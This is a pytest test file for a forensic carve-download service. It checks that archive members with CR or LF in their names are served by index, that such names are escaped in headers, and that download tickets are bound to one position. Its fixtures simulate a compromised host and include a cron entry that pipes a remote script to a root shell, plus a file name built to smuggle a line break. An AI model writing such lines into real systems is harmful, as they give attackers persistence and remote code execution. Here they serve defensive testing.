"""Members by position (``GET .../members/{index}``): the way out for names a path cannot carry.

A compromised host names its files as it likes: a name holding CR or LF cannot be asked for
by path (control bytes are refused there), so before this route such a file could only be
had inside the whole archive. Real ingest, assembler, MongoDB stand-in, OpenBao and download
service; the console's ticket and carvectl go the same way.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import io
import json
import tarfile
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import zstandard

from clients import carvectl
from clients.osquery_sim import carve_member_name
from devstack.vault import POLICY, VaultAdmin
from tests.audit_rows import settled_rows
from tests.console import DEVICE, Upload, console_stack
from tests.stack import Stack

CRLF = "/etc/cron.d/evil\r\nname"
LF = "/home/ann/notes\n.txt"
# (original path on the host, content), in archive order; /x is there twice.
MEMBERS: list[tuple[str, bytes]] = [
    ("/var/log/ok.log", b"fine\n" * 300),
    (CRLF, b"* * * * * root curl evil | sh\n"),
    ("/x", b"first /x\n"),
    (LF, b"dear diary\n"),
    ("/x", b"second /x\n"),
]


def odd_archive(guid: str, *, compress: bool) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        directory = tarfile.TarInfo(carve_member_name(guid, "/etc"))
        directory.type = tarfile.DIRTYPE
        tar.addfile(directory)
        for path, content in MEMBERS:
            info = tarfile.TarInfo(carve_member_name(guid, path))
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    data = raw.getvalue()
    return zstandard.ZstdCompressor(level=1).compress(data) if compress else data


class Members:
    def __init__(self, stack: Stack, url: str, ingest_url: str, token: str) -> None:
        self.stack, self.url, self.ingest_url, self.token = stack, url, ingest_url, token
        self.http = aiohttp.ClientSession()

    async def carve(self, *, compress: bool) -> str:
        guid = str(uuid.uuid4())
        upload = Upload(self.ingest_url, odd_archive(guid, compress=compress), DEVICE)
        upload.carve_id = guid
        await upload.send_all(self.http)
        await self.stack.wait_complete(upload.carve_id)
        return upload.carve_id

    async def get(self, path: str, token: str | None = None) -> tuple[int, Any, bytes]:
        headers = {"X-Vault-Token": self.token} if token is None else {}
        async with self.http.get(self.url + path, headers=headers) as resp:
            return resp.status, resp.headers.copy(), await resp.read()

    async def listing(self, carve_id: str) -> list[dict[str, Any]]:
        status, _, body = await self.get(f"/api/v1/carves/{carve_id}/files")
        assert status == 200, body
        members: list[dict[str, Any]] = json.loads(body)["members"]
        return members


@pytest.fixture
async def members(stack: Stack, vault: VaultAdmin) -> AsyncIterator[Members]:
    ingest_url, url = await console_stack(stack)
    made = Members(stack, url, ingest_url, vault.token(POLICY).token)
    try:
        yield made
    finally:
        await made.http.close()


def _index_of(listing: list[dict[str, Any]], path: str, nth: int = 0) -> int:
    indexes = [m["index"] for m in listing if m["path"] == path]
    return int(indexes[nth])


@pytest.mark.parametrize("compress", [False, True], ids=["tar", "zstd"])
async def test_a_member_with_cr_or_lf_in_its_name_is_served_by_index(
    members: Members, compress: bool
) -> None:
    carve_id = await members.carve(compress=compress)
    base = f"/api/v1/carves/{carve_id}"
    for source in ("manifest", "tar"):
        if source == "tar":  # the listing read from the archive itself says the same
            await members.stack.db["manifests"].delete_one({"_id": carve_id})
        listing = await members.listing(carve_id)
        assert [m["index"] for m in listing] == list(range(len(MEMBERS) + 1))
        crlf = _index_of(listing, CRLF)
        # By path it cannot be asked for: the route's pattern does not match a line break
        # (and control characters are refused in member paths anyway).
        status, _, _ = await members.get(f"{base}/files/etc/cron.d/evil%0D%0Aname")
        assert status == 404
        status, headers, body = await members.get(f"{base}/members/{crlf}")
        assert (status, body) == (200, MEMBERS[1][1])
        # No CR or LF reaches a header: the name is escaped in Content-Disposition.
        assert headers["Content-Disposition"] == (
            "attachment; filename=\"evil__name\"; filename*=UTF-8''evil%0D%0Aname"
        )
        sha256 = headers.get("X-Carve-Member-SHA256")
        assert sha256 == (
            hashlib.sha256(MEMBERS[1][1]).hexdigest() if source == "manifest" else None
        )
        status, _, body = await members.get(f"{base}/members/{_index_of(listing, LF)}")
        assert (status, body) == (200, MEMBERS[3][1])
        # The first /x, which the second supersedes (by path, the second is served).
        assert (await members.get(f"{base}/members/{_index_of(listing, '/x')}"))[2] == b"first /x\n"
        assert (await members.get(f"{base}/files/x"))[2] == b"second /x\n"
    # A directory, a position past the end, and what is not a position: 404.
    for bad in ("0", "6", "999999999", "-1", "1e3", "0x1", "1234567890"):
        status, _, _ = await members.get(f"{base}/members/{bad}")
        assert status == 404, bad
    rows = await settled_rows(members.stack.db, {"carve_id": carve_id, "action": "member"})
    assert {r["outcome"] for r in rows} == {"allowed", "refused"}


async def test_the_console_ticket_and_carvectl_reach_it_by_index(
    members: Members, tmp_path: Path
) -> None:
    carve_id = await members.carve(compress=True)
    base = f"/api/v1/carves/{carve_id}"
    crlf = _index_of(await members.listing(carve_id), CRLF)
    headers = {"X-Vault-Token": members.token, "Content-Type": "application/json"}
    async with members.http.post(
        members.url + base + "/download-ticket", json={"index": crlf}, headers=headers
    ) as resp:
        minted = await resp.json()
    assert minted["url"].startswith(f"{base}/members/{crlf}?ticket=")
    # Another position with this ticket: refused, and the ticket is not spent by it.
    wrong = minted["url"].replace(f"/members/{crlf}?", f"/members/{crlf + 1}?")
    assert (await members.get(wrong, token=""))[0] == 403
    assert (await members.get(minted["url"], token=""))[::2] == (200, MEMBERS[1][1])
    for bad in ({"index": -1}, {"index": "1"}, {"index": True}, {"index": 1, "path": "/x"}):
        async with members.http.post(
            members.url + base + "/download-ticket", json=bad, headers=headers
        ) as resp:
            assert resp.status == 400, bad
    # carvectl: the listing shows the index, `member` fetches and checks it.
    out, err = io.StringIO(), io.StringIO()
    env = {"VAULT_TOKEN": members.token, "XDG_CONFIG_HOME": str(tmp_path)}

    def run(*argv: str) -> int:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            return carvectl.run(["--server", members.url, "--quiet", *argv], env=env)

    assert await asyncio.to_thread(run, "files", carve_id) == 0, err.getvalue()
    row = next(line for line in out.getvalue().splitlines() if "evil" in line)
    assert row.split()[:2] == ["/etc/cron.d/evil\\r\\nname", "file"]  # escaped, one line
    assert row.split()[-2] == str(crlf)
    target = tmp_path / "cron-entry"
    code = await asyncio.to_thread(run, "member", carve_id, str(crlf), "-o", str(target))
    assert code == 0, err.getvalue()
    assert target.read_bytes() == MEMBERS[1][1]
    assert out.getvalue().splitlines()[-1] == (
        f"{hashlib.sha256(MEMBERS[1][1]).hexdigest()}  {target}"
    )
    assert await asyncio.to_thread(run, "member", carve_id, "0") == carvectl.EXIT_NOT_FOUND
